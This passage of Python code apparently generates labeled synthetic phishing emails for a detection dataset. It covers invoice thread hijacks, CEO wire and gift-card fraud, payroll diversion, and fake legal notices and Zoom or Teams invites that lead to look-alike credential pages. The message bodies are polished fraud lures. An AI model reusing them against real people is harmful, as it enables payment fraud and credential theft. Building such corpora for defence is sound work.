             "Thank you,\n\n*Rhonda Sauer*\nAccounts Receivable Manager\nArdent Packaging Supply, Inc.\n2290 Valley Pike, "
             "Dayton, OH 45404\nO: (937) 555-0110 x214\n")
    body = Multi("mixed", bnd(s, "gmail"), [
        alt(plain, html, bnd(s + "a", "gmail")),
        Leaf("application/pdf", pdf, "base64", '; name="Ardent_Remittance_Update.pdf"',
             'attachment; filename="Ardent_Remittance_Update.pdf"',
             [f"Content-ID: <f_{lower_alnum(s + 'cid', 11)}0>", f"X-Attachment-Id: f_{lower_alnum(s + 'cid', 11)}0"]),
    ])
    hdr = f"""MIME-Version: 1.0
From: Rhonda Sauer <rhonda.sauer@ardentpkgs.com>
Date: {fmt(p['sent'], p['off'])}
Message-ID: {p['msgid']}
Subject: Updated remittance information - Ardent Packaging Supply
To: Teresa Gullickson <{rcpt}>"""
    add(m, emit_parts(m, p, hdr, body))


def privateemail_block(m: Mail, domain: str, client_ip: str, sent: datetime | None = None) -> dict:
    sent = sent or m.sent(2)
    s = m.stem
    n = num(s + "pe", 1, 9)
    host = f"mta-0{n}.privateemail.com"
    ip = f"198.54.127.{num(s + 'peip', 40, 90)}"
    qid = f"4{alnum(s + 'q1', 2)}{num(s + 'q2', 1, 9)}{alnum(s + 'q3', 8)}"
    pre = "\n".join([
        dkim(domain, "default", "Date:From:Subject:To:From", s + "pe", t=ts(sent), style="tab"),
        f"Received: from mta-0{n}.privateemail.com (localhost [127.0.0.1])\n\tby mta-0{n}.privateemail.com (Postfix) with ESMTP id {qid};\n\t{fmt(sent)}",
        f"Received: from DESKTOP-{HX(s + 'dt', 7)} (unknown [{client_ip}])\n\tby mta-0{n}.privateemail.com (Postfix) with ESMTPA;\n\t{fmt(sent - timedelta(seconds=1))}",
    ])
    return dict(ip=ip, helo=host, mailfrom=domain, spf="pass", dkim_res="pass", dkim_d=domain, dmarc="pass",
                tls="TLS1_3", pre=pre, post="X-Virus-Scanned: ClamAV using ClamSMTP", sent=sent)


def a24_invoice_hijack_uk():
    rcpt = f"hannah.pickering@{UK}"
    m = Mail("phish-invoice-thread-hijack-uk-lookalike", "phishing",
             "Thread hijack against UK accounts payable: a reply in a genuine statement-of-account conversation, resent "
             "from hollisfreight-uk.com (look-alike of the haulier's hollisfreight.co.uk, Namecheap Private Email, passes "
             "authentication), asking that the overdue balance be paid to a 'new' bank account.",
             "uk", utc(2025, 11, 4, 10, 21, 44), rcpt)
    s = m.stem
    p = privateemail_block(m, "hollisfreight-uk.com", f"102.89.{num(s + 'c1', 1, 250)}.{num(s + 'c2', 1, 250)}")
    p["ctry"] = "US"
    inner = ms_paras("""Hi Hannah,
 
Thanks for coming back to me. As mentioned, our accounts are now held with Barclays following the change of our banking facility in October, and the old Lloyds account is no longer accepting payments.
 
Please arrange the overdue balance of £18,442.60 to the details below and send me the remittance so I can clear the account on our side:
 
Account name: Hollis Freight Ltd
Bank: Barclays Bank UK PLC
Sort code: 20-45-77
Account number: 73920184
 
I have attached nothing new as the invoices are the same as on the statement. Please confirm once the payment has been released today.
 
Kind regards,
Paul Brierley
Credit Controller | Hollis Freight Ltd
Unit 9, Stourton Link, Leeds LS10 1SJ
T: 0113 496 0522""") + """<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in"><p class="MsoNormal"><b>From:</b> Hannah Pickering &lt;hannah.pickering@brackenridgefluid.co.uk&gt; <br><b>Sent:</b> 28 October 2025 14:12<br><b>To:</b> Paul Brierley &lt;paul.brierley@hollisfreight.co.uk&gt;<br><b>Subject:</b> RE: Hollis Freight - Statement of account October<o:p></o:p></p></div>
""" + ms_paras("""Hi Paul,
 
Thanks for the statement. Invoices 55102, 55131 and 55187 were approved this week and should go out in the next payment run on 5 November.
 
Kind regards,
Hannah""")
    plain = ("Hi Hannah,\n\nThanks for coming back to me. As mentioned, our accounts are now held with Barclays following the "
             "change of our banking facility in October, and the old Lloyds account is no longer accepting payments.\n\n"
             "Please arrange the overdue balance of £18,442.60 to the details below and send me the remittance so I can "
             "clear the account on our side:\n\nAccount name: Hollis Freight Ltd\nBank: Barclays Bank UK PLC\nSort code: "
             "20-45-77\nAccount number: 73920184\n\nI have attached nothing new as the invoices are the same as on the "
             "statement. Please confirm once the payment has been released today.\n\nKind regards,\nPaul Brierley\n"
             "Credit Controller | Hollis Freight Ltd\nUnit 9, Stourton Link, Leeds LS10 1SJ\nT: 0113 496 0522\n\n"
             "From: Hannah Pickering <hannah.pickering@brackenridgefluid.co.uk>\nSent: 28 October 2025 14:12\nTo: Paul "
             "Brierley <paul.brierley@hollisfreight.co.uk>\nSubject: RE: Hollis Freight - Statement of account October\n\n"
             "Hi Paul,\n\nThanks for the statement. Invoices 55102, 55131 and 55187 were approved this week and should go "
             "out in the next payment run on 5 November.\n\nKind regards,\nHannah\n")
    hdr = f"""From: "Paul Brierley" <paul.brierley@hollisfreight-uk.com>
To: "'Hannah Pickering'" <{rcpt}>
References: <CWLP265MB{num(s + 'r1', 3000, 7899)}{HX(s + 'r2', 20)}@CWLP265MB{num(s + 'r1', 3000, 7899)}.GBRP265.PROD.OUTLOOK.COM>
In-Reply-To: <CWLP265MB{num(s + 'r1', 3000, 7899)}{HX(s + 'r2', 20)}@CWLP265MB{num(s + 'r1', 3000, 7899)}.GBRP265.PROD.OUTLOOK.COM>
Subject: RE: Hollis Freight - Statement of account October
Date: {fmt(p['sent'])}
Message-ID: <000001dc{hx(s + 'ol1', 4)}${hx(s + 'ol2', 8)}${hx(s + 'ol3', 8)}@hollisfreight-uk.com>
MIME-Version: 1.0
X-Mailer: Microsoft Outlook 16.0
Thread-Index: {thread_index(s)}
Content-Language: en-gb"""
    add(m, emit_parts(m, p, hdr, alt(plain, outlook_desktop_html(inner).replace('lang="EN-US"', 'lang="EN-GB"'),
                                     f"----=_NextPart_000_0001_01DC{HX(s + 'np', 4)}.{HX(s + 'np2', 8)}")))


def a25_ceo_giftcard_gmail():
    rcpt = f"angela.reyes@{US}"
    m = Mail("phish-ceo-gift-card-gmail", "phishing",
             "CEO impersonation opener from a Gmail address using the chief executive's name, 'are you available, I need "
             "a task handled discreetly', the first step of a gift-card scam; no link or attachment.",
             "us", utc(2025, 2, 18, 15, 6, 51), rcpt)
    s = m.stem
    p = google_sender_block(m, domain="gmail.com", gmail=True)
    plain = ("Angela,\n\nAre you available? I need you to handle a task for me discreetly. I'm in a meeting and can't talk "
             "on the phone. Let me know.\n\nDaniel\n\nSent from my iPhone\n")
    html = ('<div dir="auto">Angela,</div><div dir="auto"><br></div><div dir="auto">Are you available? I need you to handle a '
            "task for me discreetly. I'm in a meeting and can't talk on the phone. Let me know.</div><div dir=\"auto\"><br></div>"
            '<div dir="auto">Daniel</div><div dir="auto"><br></div><div dir="auto">Sent from my iPhone</div>\n')
    hdr = f"""MIME-Version: 1.0
From: Daniel Whitcombe <dwhitcombe.office@gmail.com>
Date: {fmt(p['sent'], p['off'])}
Message-ID: {p['msgid']}
Subject: Quick task
To: Angela Reyes <{rcpt}>"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "gmail"))))


def a26_ceo_wire_lookalike():
    rcpt = f"mark.ostrowski@{US}"
    m = Mail("phish-ceo-wire-lookalike-acquisition", "phishing",
             "Business email compromise: the CEO, writing from brackenridgefluids.com (one extra letter, Google "
             "Workspace, passes authentication), asks the controller to prepare a confidential $287,500 escrow wire for "
             "an acquisition and to expect instructions from an outside 'counsel'.",
             "us", utc(2025, 7, 29, 17, 48, 27), rcpt)
    s = m.stem
    p = google_sender_block(m, domain="brackenridgefluids.com")
    plain = ("Mark,\n\nWe are in the final stage of a confidential acquisition (Project Bluestem). I need you to coordinate "
             "an escrow deposit wire of $287,500 today so we can sign before the end of the week.\n\nHoward Klein, our "
             "outside counsel on this, is copied and will send you the escrow instructions directly. Please deal only with "
             "him and me on this, and do not discuss it with anyone else until the announcement, including Priya, as the "
             "NDA is very strict.\n\nLet me know when you are ready to proceed. I'm in meetings all afternoon so email "
             "only.\n\nThanks,\nDaniel\n\nDaniel Whitcombe\nPresident & CEO\nBrackenridge Fluid Systems, Inc.\n")
    html = gmail_html("<div>Mark,</div><div><br></div><div>We are in the final stage of a confidential acquisition (Project "
                      "Bluestem). I need you to coordinate an escrow deposit wire of $287,500 today so we can sign before the "
                      "end of the week.</div><div><br></div><div>Howard Klein, our outside counsel on this, is copied and will "
                      "send you the escrow instructions directly. Please deal only with him and me on this, and do not discuss "
                      "it with anyone else until the announcement, including Priya, as the NDA is very strict.</div><div><br>"
                      "</div><div>Let me know when you are ready to proceed. I'm in meetings all afternoon so email only.</div>"
                      "<div><br></div><div>Thanks,</div><div>Daniel</div><div><br></div><div>Daniel Whitcombe<br>President &amp; "
                      "CEO<br>Brackenridge Fluid Systems, Inc.</div>")
    hdr = f"""MIME-Version: 1.0
From: Daniel Whitcombe <daniel.whitcombe@brackenridgefluids.com>
Date: {fmt(p['sent'], p['off'])}
Message-ID: {p['msgid']}
Subject: Confidential - Project Bluestem
To: Mark Ostrowski <{rcpt}>
Cc: Howard Klein <hklein@kleinpartners-law.com>"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "gmail"))))


def a27_payroll_diversion_icloud():
    rcpt = f"keisha.holloway@{US}"
    m = Mail("phish-payroll-direct-deposit-icloud", "phishing",
             "Payroll diversion: an iCloud address using an engineer's name asks payroll to change his direct deposit "
             "before the next pay date; plain, short, no link, the fraud follows the reply.",
             "us", utc(2025, 5, 6, 13, 14, 2), rcpt)
    s = m.stem
    sent = m.sent(2)
    ip = f"17.57.{num(s + 'ic', 152, 156)}.{num(s + 'ic2', 2, 40)}"
    helo = f"p-east3-cluster{num(s + 'cl', 1, 7)}-host{num(s + 'ho', 1, 12)}-snip4-{num(s + 'sn', 1, 10)}.eps.apple.com"
    pre = "\n".join([
        dkim("icloud.com", "1a1hai", "Content-Type:Mime-Version:Subject:Message-Id:Date:To:From", s + "ic", t=ts(sent),
             style="tab", extra="q=dns/txt", size=256),
        fold(f"Received: from smtpclient.apple (mr38p00im-dlb-asmtp-mailmevip.me.com [17.57.152.18]) by "
             f"{helo.replace('.eps.apple.com', '.eps.apple.com')} (Postfix) with ESMTPSA id {HX(s + 'q', 10)} for <{rcpt}>; "
             f"{fmt(sent, us_off(sent)[0])}", indent="\t"),
        "X-Proofpoint-ORIG-GUID: " + alnum(s + "pg", 32),
        "X-Proofpoint-GUID: " + alnum(s + "pg", 32),
        "X-Proofpoint-Virus-Version: vendor=baseguard\n engine=ICAP:2.0.293,Aquarius:18.0.1093,Hydra:6.0.680,FMLib:17.12.68.34\n definitions=2025-05-06_05,2025-05-05_01,2025-05-06_01 signatures=0",
    ])
    p = dict(ip=ip, helo=helo, mailfrom="icloud.com", spf="pass", dkim_res="pass", dkim_d="icloud.com",
             hfrom="icloud.com", dmarc="pass", action="none", tls="TLS1_3", pre=pre, return_path=f"<alan.petrosyan86@icloud.com>")
    plain = ("Hi Keisha,\n\nI recently switched banks and need to update my direct deposit before the next pay date. Can you "
             "let me know what you need from me to get this done? I'm out at the Plant 2 site most of this week so email "
             "is easiest.\n\nThanks,\nAlan\n\nSent from my iPhone")
    hdr = f"""Content-Transfer-Encoding: 7bit
From: Alan Petrosyan <alan.petrosyan86@icloud.com>
Mime-Version: 1.0 (1.0)
Date: {fmt(sent, us_off(sent)[0])}
Subject: Direct deposit change
Message-Id: <{guid(s + 'ap').upper()}@icloud.com>
To: keisha.holloway@{US}
X-Mailer: iPhone Mail (22E252)"""
    body = Leaf("text/plain", plain.encode(), "7bit", "; charset=us-ascii")
    top, tail = inbound(m, **{k: p[k] for k in ["ip", "helo", "mailfrom", "spf", "hfrom", "dkim_res", "dkim_d", "dmarc",
                                                "tls", "return_path"]})
    raw = message("\n".join([top, p["pre"], hdr.replace("Content-Transfer-Encoding: 7bit\n", ""), tail]), body)
    add(m, raw)


def a28_md_whatsapp_uk():
    rcpt = f"rebecca.hollins@{UK}"
    m = Mail("phish-md-whatsapp-spoofed-uk-domain", "phishing",
             "UK managing-director impersonation that spoofs the subsidiary's own domain in From, sent from an OVH VPS "
             "(SPF fails, no DKIM, DMARC fails; the UK domain's policy is only p=none, so it landed in Junk and was "
             "reported from there), with Reply-To a free Outlook.com address; asks for the employee's WhatsApp number "
             "to move a voucher or payment scam off email.",
             "uk", utc(2025, 12, 9, 9, 37, 12), rcpt)
    s = m.stem
    sent = m.sent(2)
    host = f"vps-{hx(s + 'vps', 8)}.vps.ovh.net"
    ip = f"51.75.{num(s + 'ip', 128, 250)}.{num(s + 'ip2', 2, 250)}"
    pre = fold(f"Received: by {host} (Postfix, from userid 1000) id {HX(s + 'q', 11)}; {fmt(sent)}", indent="\t")
    p = dict(ip=ip, helo=host, mailfrom=UK, spf="fail", dkim_res="none", hfrom=UK, dmarc="fail", action="none",
             compauth="fail", reason="001", scl=5, sfv="SPM", ctry="FR", tls="TLS1_2", pre=pre,
             return_path=f"<graham.fenwick@{UK}>")
    html = ("<html><body><div style=\"font-family:Calibri,Arial,sans-serif;font-size:11pt\">Rebecca,<br><br>"
            "Are you at your desk? I need a quick favour. Please send me your WhatsApp number, I'm tied up in back to back "
            "meetings today and can only message.<br><br>Graham<br><br>Sent from Outlook for iOS</div></body></html>")
    plain = ("Rebecca,\n\nAre you at your desk? I need a quick favour. Please send me your WhatsApp number, I'm tied up in "
             "back to back meetings today and can only message.\n\nGraham\n\nSent from Outlook for iOS\n")
    hdr = f"""Date: {fmt(sent)}
To: {rcpt}
From: Graham Fenwick <graham.fenwick@{UK}>
Reply-To: Graham Fenwick <g.fenwick.md@outlook.com>
Subject: Are you at your desk?
Message-ID: <{alnum(s + 'pm', 43)}@{UK}>
X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "php"))))


def a29_legal_claim_google_slides():
    rcpt = f"samantha.oyelaran@{US}"
    m = Mail("phish-legal-notice-claim-google-slides", "phishing",
             "'Notice of claim' sent to in-house counsel from a compromised mailbox at a real-looking Columbus law firm "
             "(Exchange Online, passes DMARC); the 'secure document' link is a published Google Slides deck that links "
             "onwards to a Microsoft 365 credential page.",
             "us", utc(2025, 9, 30, 19, 11, 5), rcpt)
    s = m.stem
    p = exo_sender_block(m, domain="hargrovetate.com", sender="jhartman@hargrovetate.com")
    link = f"https://docs.google.com/presentation/d/e/2PACX-1v{alnum(s + 'gs', 80)}/pub?start=false&loop=false&delayms=3000"
    inner = outlook_desktop_html(ms_paras(f"""Ms. Oyelaran,
 
Please be advised that this office has been retained in connection with a claim against Brackenridge Fluid Systems, Inc. arising from the supply agreement dated March 2023.
 
A copy of the Notice of Claim and supporting exhibits (Ref. HT-25-0917) has been made available through our secure document portal:
 
<a href="{link}">View Notice of Claim – HT-25-0917</a>
 
We request a written response within ten (10) business days of receipt.
 
Sincerely,
 
Jessica Hartman
Paralegal
Hargrove &amp; Tate LLP
250 E. Broad Street, Suite 1400, Columbus, OH 43215
(614) 555-0172
 
CONFIDENTIALITY NOTICE: This e-mail message, including any attachments, is for the sole use of the intended recipient(s) and may contain confidential and privileged information."""))
    plain = ("Ms. Oyelaran,\n\nPlease be advised that this office has been retained in connection with a claim against "
             "Brackenridge Fluid Systems, Inc. arising from the supply agreement dated March 2023.\n\nA copy of the Notice of "
             "Claim and supporting exhibits (Ref. HT-25-0917) has been made available through our secure document portal:\n\n"
             f"View Notice of Claim – HT-25-0917<{link}>\n\nWe request a written response within ten (10) business days of "
             "receipt.\n\nSincerely,\n\nJessica Hartman\nParalegal\nHargrove & Tate LLP\n250 E. Broad Street, Suite 1400, "
             "Columbus, OH 43215\n(614) 555-0172\n\nCONFIDENTIALITY NOTICE: This e-mail message, including any attachments, is "
             "for the sole use of the intended recipient(s) and may contain confidential and privileged information.\n")
    subj = enc("Notice of Claim – Brackenridge Fluid Systems, Inc. (Ref. HT-25-0917)")
    hdr = f"""From: Jessica Hartman <jhartman@hargrovetate.com>
To: "samantha.oyelaran@{US}" <{rcpt}>
Subject: {subj}
Thread-Topic: {subj}
Thread-Index: {thread_index(s)}
Date: {fmt(p['sent'])}
Message-ID: {p['msgid']}"""
    add(m, emit_parts(m, p, hdr, alt(plain, inner, bnd(s))))


def a30_legal_invoice_forged_thread():
    rcpt = f"jennifer.ames@{US}"
    m = Mail("phish-legal-invoice-forged-ceo-approval", "phishing",
             "Fake law-firm invoice for a $36,500 'regulatory retainer' from morrowlegal-group.com (attacker domain on "
             "Zoho, passes authentication) with a fabricated forwarded thread in which the CEO appears to approve "
             "payment, plus a PDF invoice with wire details.",
             "us", utc(2026, 1, 13, 16, 2, 38), rcpt)
    s = m.stem
    p = zoho_block(m, "morrowlegal-group.com", "ar@morrowlegal-group.com")
    pdf = files.pdf(["MORROW LEGAL GROUP, PLLC", "1120 Avenue of the Americas, 4th Floor, New York, NY 10036", "",
                     "INVOICE 25-1187", "Date: January 12, 2026", "Client: Brackenridge Fluid Systems, Inc.",
                     "Matter: Regulatory advisory - EPA Region 5 inquiry", "",
                     "Professional services - retainer (Phase 1)                 $36,500.00", "",
                     "TOTAL DUE UPON RECEIPT                                     $36,500.00", "",
                     "Wire instructions:", "Bank: Citizens Bank, N.A.", "Account name: Morrow Legal Group PLLC IOLA",
                     "Routing (ABA): 011500120", "Account: 6203318847", "Reference: 25-1187"], title="Invoice 25-1187")
    html = f"""<div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;"><div>Hi Jennifer,<br></div><div><br></div>
<div>Following up on the invoice approved below by Daniel. Please process the payment today as per the attached invoice, as the retainer must be in place before our team begins work on the matter.<br></div><div><br></div>
<div>Kindly send the remittance confirmation to this email once released.<br></div><div><br></div>
<div>Best regards,<br></div><div>Accounts Receivable<br></div><div>Morrow Legal Group, PLLC<br></div><div><br></div>
<div style="border-top:1px solid #ccc;padding-top:6px"><b>From:</b> Daniel Whitcombe &lt;daniel.whitcombe@{US}&gt;<br><b>Sent:</b> Monday, January 12, 2026 5:41 PM<br><b>To:</b> Accounts Receivable &lt;ar@morrowlegal-group.com&gt;<br><b>Subject:</b> RE: Invoice 25-1187 - Legal Services<br><br>
Approved. Please send to Jennifer Ames in AP for payment, cc me.<br><br>Daniel<br><br>
<b>From:</b> Accounts Receivable &lt;ar@morrowlegal-group.com&gt;<br><b>Sent:</b> Monday, January 12, 2026 2:03 PM<br><b>To:</b> Daniel Whitcombe &lt;daniel.whitcombe@{US}&gt;<br><b>Subject:</b> Invoice 25-1187 - Legal Services<br><br>
Dear Mr. Whitcombe, please find attached our invoice for the Phase 1 retainer as discussed with Ms. Oyelaran. Kindly approve for payment.</div></div><br>"""
    plain = ("Hi Jennifer,\n\nFollowing up on the invoice approved below by Daniel. Please process the payment today as per "
             "the attached invoice, as the retainer must be in place before our team begins work on the matter.\n\nKindly "
             "send the remittance confirmation to this email once released.\n\nBest regards,\nAccounts Receivable\nMorrow "
             f"Legal Group, PLLC\n\nFrom: Daniel Whitcombe <daniel.whitcombe@{US}>\nSent: Monday, January 12, 2026 5:41 PM\n"
             "To: Accounts Receivable <ar@morrowlegal-group.com>\nSubject: RE: Invoice 25-1187 - Legal Services\n\nApproved. "
             "Please send to Jennifer Ames in AP for payment, cc me.\n\nDaniel\n\nFrom: Accounts Receivable "
             f"<ar@morrowlegal-group.com>\nSent: Monday, January 12, 2026 2:03 PM\nTo: Daniel Whitcombe <daniel.whitcombe@{US}>\n"
             "Subject: Invoice 25-1187 - Legal Services\n\nDear Mr. Whitcombe, please find attached our invoice for the Phase 1 "
             "retainer as discussed with Ms. Oyelaran. Kindly approve for payment.\n")
    body = Multi("mixed", f"----=_Part_{num(s, 100000, 999999)}_{num(s + 'm', 10000000, 99999999)}.{ts(p['sent'])}000", [
        alt(plain, html, f"----=_Part_{num(s + 'a', 100000, 999999)}_{num(s + 'z', 10000000, 99999999)}.{ts(p['sent'])}000", enc="7bit"),
        attachment("application/pdf", "Invoice_25-1187_Brackenridge.pdf", pdf),
    ])
    hdr = f"""Date: {fmt(p['sent'], -8)}
From: Accounts Receivable <ar@morrowlegal-group.com>
To: "Jennifer Ames" <{rcpt}>
Cc: "Daniel Whitcombe" <daniel.whitcombe@{US}>
Message-Id: {p['msgid'].replace('zohomail.com', 'zohomail.com')}
Subject: RE: FW: Invoice 25-1187 - Legal Services - Brackenridge Fluid Systems
MIME-Version: 1.0"""
    p["ctry"] = "US"
    add(m, emit_parts(m, p, hdr, body))


def brevo_block(m: Mail, domain: str) -> dict:
    s = m.stem
    sent = m.sent(2)
    ip3, ip4 = num(s + "bv3", 28, 31), num(s + "bv4", 2, 250)
    ip = f"185.41.{ip3}.{ip4}"
    helo = f"ed{ip3}-{ip4}.mta.sendibt3.com"
    pre = "\n".join([
        dkim(domain, "mail", "Subject:From:Reply-To:To:Date:Message-Id:MIME-Version:Content-Type", s + "bv",
             t=ts(sent), style="space", size=128),
        dkim("sendibt3.com", "mail", "Subject:From:Reply-To:To:Date:Message-Id:MIME-Version:Content-Type", s + "bv2",
             t=ts(sent), style="space", size=128),
        f"Received: from localhost by {helo}; {fmt(sent)}",
    ])
    post = "\n".join([
        "X-Mailer: Sendinblue",
        f"X-Mailin-EID: {alnum(s + 'eid', 48)}",
        f"X-sib-id: {alnum(s + 'sib', 70)}",
        f"Feedback-ID: {ip}:{num(s + 'fid', 1000000, 9999999)}_-1:{num(s + 'fid', 1000000, 9999999)}:Sendinblue",
        f"X-CSA-Complaints: csa-complaints@eco.de",
    ])
    return dict(ip=ip, helo=helo, mailfrom="sendibt3.com", spf="pass", dkim_res="pass", dkim_d=domain, dmarc="pass",
                tls="TLS1_2", pre=pre, post=post, sent=sent, msgid=f"<{guid(s + 'bvid')}@smtp-relay.mailin.fr>",
                return_path=f"<bounces-{num(s + 'bn', 100000, 999999)}-{alnum(s + 'bn2', 12)}@sendibt3.com>")


def a31_zoom_invite_lookalike():
    rcpt = f"nicole.brandt@{US}"
    m = Mail("phish-zoom-invite-lookalike-brevo", "phishing",
             "Fake Zoom meeting invitation sent through Brevo (Sendinblue) for the attacker domain zoom-meetinvite.com; "
             "'Join meeting' opens a Zoom look-alike that demands a Microsoft 365 sign-in to join.",
             "us", utc(2025, 10, 14, 13, 40, 55), rcpt)
    s = m.stem
    p = brevo_block(m, "zoom-meetinvite.com")
    mid = f"{num(s + 'mid', 81000000000, 89999999999)}"
    link = f"https://zoom-meetinvite.com/j/{mid}?pwd={alnum(s + 'pwd', 32)}.1&uname={b64url_text(rcpt)}"
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="margin:0;background:#f7f9fa">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:30px 10px">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:8px;font-family:Lato,Helvetica,Arial,sans-serif;color:#232333">
<tr><td style="padding:26px 32px 6px 32px"><img src="https://st1.zoom.us/static/6.3.25787/image/new/ZoomLogo.png" height="26" alt="zoom"></td></tr>
<tr><td style="padding:18px 32px 6px 32px;font-size:20px;font-weight:bold">Hi Nicole,</td></tr>
<tr><td style="padding:6px 32px;font-size:15px;line-height:22px">Daniel Whitcombe is inviting you to a scheduled Zoom meeting.</td></tr>
<tr><td style="padding:14px 32px;font-size:14px;line-height:22px;background:#f7f9fa"><b>Topic:</b> Q4 Distributor Pricing Review<br><b>Time:</b> Oct 15, 2025 10:00 AM Eastern Time (US and Canada)<br><b>Meeting ID:</b> {mid[:3]} {mid[3:7]} {mid[7:]}</td></tr>
<tr><td style="padding:22px 32px"><a href="{link}" style="background:#0b5cff;color:#ffffff;font-size:15px;font-weight:bold;text-decoration:none;padding:11px 30px;border-radius:8px;display:inline-block">Join meeting</a></td></tr>
<tr><td style="padding:0 32px 24px 32px;font-size:12px;color:#747487">Please sign in with your company account to join this meeting.<br><br>&copy;2025 Zoom Communications, Inc. All rights reserved.<br>55 Almaden Blvd, San Jose, CA 95113</td></tr>
</table></td></tr></table>
<img width="1" height="1" src="https://zoom-meetinvite.com/tr/op/{alnum(s + 'op', 40)}" alt=""></body></html>"""
    plain = (f"Hi Nicole,\n\nDaniel Whitcombe is inviting you to a scheduled Zoom meeting.\n\nTopic: Q4 Distributor Pricing "
             f"Review\nTime: Oct 15, 2025 10:00 AM Eastern Time (US and Canada)\nMeeting ID: {mid[:3]} {mid[3:7]} {mid[7:]}\n\n"
             f"Join meeting: {link}\n\nPlease sign in with your company account to join this meeting.\n")
    hdr = f"""Subject: Nicole, you've been invited to a Zoom meeting: Q4 Distributor Pricing Review
From: Zoom <no-reply@zoom-meetinvite.com>
Reply-To: Zoom <no-reply@zoom-meetinvite.com>
To: {rcpt}
Date: {fmt(p['sent'])}
Message-Id: {p['msgid']}
MIME-Version: 1.0"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(s, "hyph"))))


def teams_block_html(link: str, meeting_id: str, passcode: str, org_tenant: str, organizer: str) -> str:
    return f"""<div style="width:100%"><span style="white-space:nowrap;color:#5F5F5F;opacity:.36">________________________________________________________________________________</span></div>
<div class="me-email-text" lang="en-US" style="color:#252424;font-family:'Segoe UI','Helvetica Neue',Helvetica,Arial,sans-serif">
<div style="margin-top:24px;margin-bottom:20px"><span style="font-size:24px;color:#252424">Microsoft Teams meeting</span></div>
<div style="margin-bottom:20px"><div style="margin-top:0px;margin-bottom:0px;font-weight:bold"><span style="font-size:14px;color:#252424">Join on your computer, mobile app or room device</span></div>
<a class="me-email-headline" href="{link}" target="_blank" rel="noreferrer noopener" style="font-size:14px;font-family:'Segoe UI Semibold','Segoe UI','Helvetica Neue',Helvetica,Arial,sans-serif;text-decoration:underline;color:#6264a7">Click here to join the meeting</a></div>
<div style="margin-bottom:20px;margin-top:20px"><div style="margin-bottom:4px"><span data-tid="meeting-code" style="font-size:14px;color:#252424">Meeting ID: <span style="font-size:16px;color:#252424">{meeting_id}</span></span><br>
<span style="font-size:14px;color:#252424">Passcode: </span><span style="font-size:16px;color:#252424">{passcode}</span></div>
<div style="font-size:14px"><a class="me-email-link" style="font-size:14px;text-decoration:underline;color:#6264a7;font-family:'Segoe UI','Helvetica Neue',Helvetica,Arial,sans-serif" target="_blank" href="https://www.microsoft.com/en-us/microsoft-teams/download-app" rel="noreferrer noopener">Download Teams</a> | <a class="me-email-link" style="font-size:14px;text-decoration:underline;color:#6264a7;font-family:'Segoe UI','Helvetica Neue',Helvetica,Arial,sans-serif" target="_blank" href="https://www.microsoft.com/microsoft-teams/join-a-meeting" rel="noreferrer noopener">Join on the web</a></div></div>
<div style="margin-bottom:24px;margin-top:20px"><a class="me-email-link" target="_blank" href="https://aka.ms/JoinTeamsMeeting?omkt=en-US" rel="noreferrer noopener" style="font-size:14px;text-decoration:underline;color:#6264a7;font-family:'Segoe UI','Helvetica Neue',Helvetica,Arial,sans-serif">Learn More</a> | <a class="me-email-link" target="_blank" href="https://teams.microsoft.com/meetingOptions/?organizerId={guid(organizer)}&amp;tenantId={org_tenant}&amp;threadId=19_meeting_{alnum(organizer + 'th', 48)}@thread.v2&amp;messageId=0&amp;language=en-US" rel="noreferrer noopener" style="font-size:14px;text-decoration:underline;color:#6264a7;font-family:'Segoe UI','Helvetica Neue',Helvetica,Arial,sans-serif">Meeting options</a></div></div>
<div style="font-size:14px;margin-bottom:4px;font-family:'Segoe UI','Helvetica Neue',Helvetica,Arial,sans-serif"></div>
<div style="font-size:12px"></div>
<div style="width:100%"><span style="white-space:nowrap;color:#5F5F5F;opacity:.36">________________________________________________________________________________</span></div>"""


def a32_teams_ics():
    rcpt = f"graham.fenwick@{UK}"
    m = Mail("phish-teams-invite-ics-compromised-broker", "phishing",
             "Calendar invitation for a 'fleet policy renewal' Teams call sent from a compromised mailbox at a London "
             "insurance broker (Exchange Online, passes DMARC); the Teams block and the .ics point 'Click here to join' "
             "at a look-alike host (teams.live-meeting-join.com) that asks for the Microsoft 365 password.",
             "uk", utc(2026, 2, 3, 11, 26, 4), rcpt)
    s = m.stem
    p = exo_sender_block(m, domain="aldgatebrokers.co.uk", sender="t.reddick@aldgatebrokers.co.uk", region="uk")
    p["post"] = p["post"].replace("en-US", "en-GB")
    thread = f"19%3ameeting_{alnum(s + 'th', 48)}%40thread.v2"
    link = (f"https://teams.live-meeting-join.com/l/meetup-join/{thread}/0?context=%7b%22Tid%22%3a%22{guid(s + 'tid')}%22%2c"
            f"%22Oid%22%3a%22{guid(s + 'oid')}%22%7d")
    meeting_id = f"{num(s + 'mi1', 200, 499)} {num(s + 'mi2', 100, 999)} {num(s + 'mi3', 100, 999)} {num(s + 'mi4', 100, 999)}"
    passcode = alnum(s + "pc", 6)
    start = utc(2026, 2, 4, 14, 0)
    inner = ms_paras("""Hi Graham,
 
Ahead of the March renewal I'd like to walk you through the revised terms on the UK fleet policy, including the new telematics discount. I've put 30 minutes in for tomorrow afternoon; please let me know if another time suits better.
 
Kind regards,
Tom""") + teams_block_html(link, meeting_id, passcode, guid(s + "tid"), s)
    html = outlook_desktop_html(inner).replace('lang="EN-US"', 'lang="EN-GB"')
    plain = ("Hi Graham,\n\nAhead of the March renewal I'd like to walk you through the revised terms on the UK fleet policy, "
             "including the new telematics discount. I've put 30 minutes in for tomorrow afternoon; please let me know if "
             "another time suits better.\n\nKind regards,\nTom\n\n________________________________________________________"
             "________________________\nMicrosoft Teams meeting\nJoin on your computer, mobile app or room device\n"
             f"Click here to join the meeting<{link}>\nMeeting ID: {meeting_id}\nPasscode: {passcode}\n")
    cal = ics(f"040000008200E00074C5B7101A82E00800000000{HX(s + 'uid', 16)}0000000000000000100000000{HX(s + 'uid2', 32)}",
